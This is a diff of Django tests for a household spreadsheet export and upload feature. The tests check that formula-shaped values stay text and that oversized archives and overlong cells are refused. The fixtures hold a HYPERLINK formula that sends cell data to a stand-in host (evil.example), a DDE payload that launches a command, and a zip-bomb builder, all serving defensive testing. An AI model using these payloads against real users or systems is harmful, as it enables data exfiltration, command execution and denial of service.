@@ -1,4 +1,5 @@
 import io
+from unittest import mock
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -132,3 +133,71 @@ def test_the_export_of_one_micro_grid_is_named_after_it(client3, household):
 def test_the_branch_export_is_named_after_the_community(client, branch, household):
     client.force_login(branch)
     assert "filename=\"households-NJ-2" in disposition(client)
+
+
+FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")"
+
+
+def exported_row(client):
+    workbook = load_workbook(io.BytesIO(client.get(reverse("field:household_export")).content))
+    return list(workbook.active.iter_rows(min_row=2, max_row=2))[0]
+
+
+def test_a_compound_typed_like_a_formula_is_exported_as_text(client3, tree):
+    make_household(compound=FORMULA)
+    cell = exported_row(client3)[excel.FIELDS.index("compound")]
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
+
+
+def test_a_note_typed_like_a_formula_is_exported_as_text(client3, tree):
+    make_household(notes="+1+cmd|'/C calc'!A0")
+    assert exported_row(client3)[excel.FIELDS.index("notes")].data_type == "s"
+
+
+def test_a_formula_imported_as_text_is_exported_as_text_again(client3, tree):
+    from openpyxl.cell import WriteOnlyCell
+
+    workbook = Workbook(write_only=True)
+    page = workbook.create_sheet()
+    page.append(excel.HEADERS)
+    contact = WriteOnlyCell(page, value="@contact")
+    contact.data_type = "s"
+    page.append([*GOOD[:6], contact, *GOOD[7:]])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    upload(client3, SimpleUploadedFile("households.xlsx", buffer.getvalue(), content_type=excel.XLSX))
+    cell = exported_row(client3)[excel.FIELDS.index("contact_name")]
+    assert (cell.value, cell.data_type) == ("@contact", "s")
+
+
+def bomb(text):
+    """A household sheet whose row's compound is `text`: deflated, a few kilobytes on disk however long."""
+    import zipfile
+
+    source = sheet(GOOD)
+    original, out = zipfile.ZipFile(io.BytesIO(source.read())), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as crafted:
+        for member in original.infolist():
+            data = original.read(member)
+            if member.filename.startswith("xl/worksheets/"):
+                data = data.replace("南街小区".encode(), text.encode())  # the compound of the one row
+            crafted.writestr(member.filename, data)
+    return SimpleUploadedFile("households.xlsx", out.getvalue(), content_type=excel.XLSX)
+
+
+def test_a_sheet_that_unpacks_too_large_is_refused_before_it_is_loaded(client3, tree, monkeypatch):
+    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 1024 * 1024)
+    file = bomb("A" * (2 * 1024 * 1024))
+    assert file.size < 20_000
+    with mock.patch.object(excel, "load_workbook", side_effect=AssertionError("loaded")):
+        response = upload(client3, file)
+    assert "解压后超过 1 MB" in response.content.decode() and not Household.objects.exists()
+
+
+def test_the_archive_limit_fits_a_full_household_sheet():
+    assert excel.MAX_UNPACKED_BYTES >= 20 * 1024 * 1024
+
+
+def test_a_cell_longer_than_excel_keeps_is_refused_with_a_message(client3, tree):
+    response = upload(client3, bomb("A" * (excel.EXCEL_CELL_LIMIT + 1)))
+    assert "超过 32767 个字符" in response.content.decode() and not Household.objects.exists()
